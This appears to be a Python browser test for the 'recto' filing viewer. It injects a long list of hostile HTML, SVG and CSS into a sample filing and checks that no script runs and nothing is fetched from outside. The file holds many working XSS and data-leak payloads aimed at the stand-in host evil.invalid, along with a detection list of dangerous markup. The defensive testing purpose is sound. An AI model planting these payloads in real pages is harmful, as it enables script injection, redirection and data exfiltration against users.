"""A filing that would run scripts, fetch, refresh and lead away does nothing and asks for nothing."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

import recto
from tests.browser.conftest import Open, Serve

EVIL = "http://evil.invalid"
ACTIVE = f"""
<div onclick="boom()" onmouseover="boom()" onload="boom()">over me</div>
<script>boom()</script><script src="{EVIL}/x.js"></script>
<a href="javascript:boom()">a link</a> <a href="{EVIL}/away" target="_top">away</a>
<a href="data:text/html,&lt;script&gt;boom()&lt;/script&gt;">data</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>boom()</script><image href="{EVIL}/x.svg"/>
  <animate onbegin="boom()" attributeName="x" dur="1s"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/f"/></foreignObject></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/m.png" onerror="boom()"/></mtext>
  <maction actiontype="statusline" href="javascript:boom()">x</maction></math>
<img src="{EVIL}/i.png" onerror="boom()" alt="x"/> <img src="x" onerror="boom()" alt="y"/> <img srcset="{EVIL}/s.png 2x" alt="z"/>
<iframe src="{EVIL}/f" srcdoc="&lt;script&gt;boom()&lt;/script&gt;"></iframe>
<object data="{EVIL}/o"></object><embed src="{EVIL}/e"/>
<form action="{EVIL}/form"><input name="a" autofocus="autofocus" onfocus="boom()"/><button>send</button></form>
<p style="background:url({EVIL}/bg.png);behavior:url({EVIL}/b.htc);list-style-image:url('{EVIL}/l.png')">styled</p>
<p style="background:u\\72l({EVIL}/esc.png)">escaped</p>
<table background="{EVIL}/t.png"><tr><td background="{EVIL}/td.png">cell</td></tr></table>
<video src="{EVIL}/v" autoplay="autoplay" onerror="boom()"></video><audio src="{EVIL}/a"></audio>
<details open="open" ontoggle="boom()"><summary>d</summary></details>
<a href="#top" ping="{EVIL}/ping" onfocus="boom()">ping</a> <a href="&#106;avascript:boom()">entity</a>
<a href="  javascript:boom()">space</a> <a href="vbscript:boom()">vb</a> <a href="//evil.invalid/relative">relative</a>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:boom()"><text>x</text></a>
  <use xlink:href="{EVIL}/u.svg#a"/><set attributeName="onclick" to="boom()"/><style>@import url({EVIL}/svg.css);</style></svg>
<div xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="{EVIL}/xl" xlink:actuate="onLoad">xlink</div>
<form><input type="image" src="{EVIL}/input.png" formaction="javascript:boom()"/><button formaction="{EVIL}/fa">b</button></form>
<picture><source srcset="{EVIL}/pic.png"/><img src="{EVIL}/p2.png" lowsrc="{EVIL}/low.png" dynsrc="{EVIL}/d.png" alt="p"/></picture>
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"/>
<meta http-equiv="set-cookie" content="a=b"/><link rel="prefetch" href="{EVIL}/prefetch"/><link rel="dns-prefetch" href="//evil.invalid"/>
<template><script>boom()</script></template><noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=boom()&gt;">n</p></noscript>
<div id="boot">clobbered</div><img name="body" id="documentElement" src="{EVIL}/clobber.png" alt="c"/><a id="recto" name="recto" href="{EVIL}">c</a>
<p style="background-image:image-set(url({EVIL}/set.png) 1x);cursor:url({EVIL}/c.cur),auto;content:url({EVIL}/co.png);border-image:url({EVIL}/bi.png)">css</p>
<p style="width:expression(boom());-moz-binding:url({EVIL}/xbl);position:fixed;inset:0;z-index:99999">over all</p>
<style>@im\\port url({EVIL}/esc.css); @namespace url({EVIL}/ns); a[href^="x"] {{ background: u\\72l({EVIL}/leak.png) }} </style>
<p style="-sec-ix-hidden:constructor">named as what every object has</p>
<marquee onstart="boom()">m</marquee><xml src="{EVIL}/xml"></xml><portal src="{EVIL}/portal"></portal>
<meta http-equiv="refresh" content="0;url={EVIL}/refresh"/><base href="{EVIL}/"/><link rel="stylesheet" href="{EVIL}/s.css"/>
<style>@import url({EVIL}/imp.css); p {{ background: url({EVIL}/css.png) }} @font-face {{ font-family: x; src: url({EVIL}/font) }}</style>
"""  # noqa: E501
HEAD = f"""<meta http-equiv="refresh" content="0;url={EVIL}/refresh"/><base href="{EVIL}/"/>
<link rel="stylesheet" href="{EVIL}/s.css"/><script>boom()</script>
<style>@import url({EVIL}/imp.css); body {{ background: url({EVIL}/css.png); color: red }}</style>"""


@pytest.fixture
def hostile(data: Path, tmp_path: Path) -> Path:
    """The small inline filing with all that, in its document, in a text block and in a label."""
    folder = tmp_path / "hostile"
    shutil.copytree(data / "inline", folder)
    path = folder / "orchard-20241231.htm"
    text = path.read_text("utf-8")
    text = text.replace("</title></head>", f"</title>{HEAD}</head>").replace(
        "<body>", f'<body onload="boom()">{ACTIVE}', 1
    )
    end = text.index(">", text.index('escape="true"')) + 1
    text = text[:end] + ACTIVE + text[end:]
    path.write_text(text, "utf-8")
    schema = folder / "orchard-20241231.xsd"
    schema.write_text(
        schema.read_text("utf-8").replace("Inventories", "&lt;img src=x onerror=boom()&gt; Inventories"), "utf-8"
    )
    return folder


@pytest.mark.parametrize("home", ["served", "file", "folder", "index"])
def test_it_does_nothing_and_asks_for_nothing(
    watched: Open, serve: Serve, hostile: Path, data: Path, tmp_path: Path, home: str
) -> None:
    watch = watched()
    watch.page.add_init_script("window.boom = () => { console.error('boom'); }")
    if home == "served":
        own = serve(hostile, taxonomies=[data / "mirror"])
        listed = watch.page.request.get(f"{own}/api/filings").json()["filings"]
        url = f"{own}/view/{listed[0]['id']}"
    else:
        filing = recto.open(hostile, taxonomies=[data / "mirror"], offline=True)
        if home in ("file", "folder"):
            filing.view(tmp_path / "report.html", validate=True, largest=1 if home == "folder" else None)
            url = (tmp_path / "report.html").as_uri()
        else:
            filing.render(tmp_path / "pages")
            url = (tmp_path / "pages" / "index.html").as_uri()
        own = tmp_path.as_uri()
    page = watch.open(f"{url}#/R2")
    page.wait_for_selector("td.num")
    pages = [a.get_attribute("href") for a in page.locator("nav a").all()]
    for each in pages:
        page.evaluate("hash => { location.hash = hash }", each)
        page.wait_for_timeout(350)
    watch.shot(f"hostile-{home}")
    page.keyboard.press("d")
    page.wait_for_selector("#document iframe")
    page.wait_for_timeout(800)
    watch.shot(f"hostile-document-{home}")
    inner = page.evaluate("document.querySelector('#document iframe').contentDocument.body.innerHTML.toLowerCase()")
    for word in (
        "<script",
        "onclick",
        "javascript:",
        "<svg",
        "<math",
        "<iframe",
        "<form",
        "<base",
        "<meta",
        "evil.invalid/away",
        "<style",
        "<link",
        "<template",
        "srcset",
        "ping=",
        "formaction",
        "xlink:",
        "url(",
        "expression(",
    ):
        assert word not in inner, word
    assert not re.search(r"<[^>]*\son\w+\s*=", inner)
    assert not re.search(r'data-f="(?!\d+")', inner)
    page.evaluate("for (const a of document.querySelector('#document iframe').contentDocument.links) a.click()")
    page.evaluate("location.hash = '#/findings'")
    page.wait_for_timeout(500)
    page.evaluate("location.hash = '#/find?q=styled'")
    page.wait_for_timeout(700)
    assert watch.problems == []
    assert watch.outside(own) == []
    assert page.url.startswith(own)
    assert len(page.context.pages) == 1
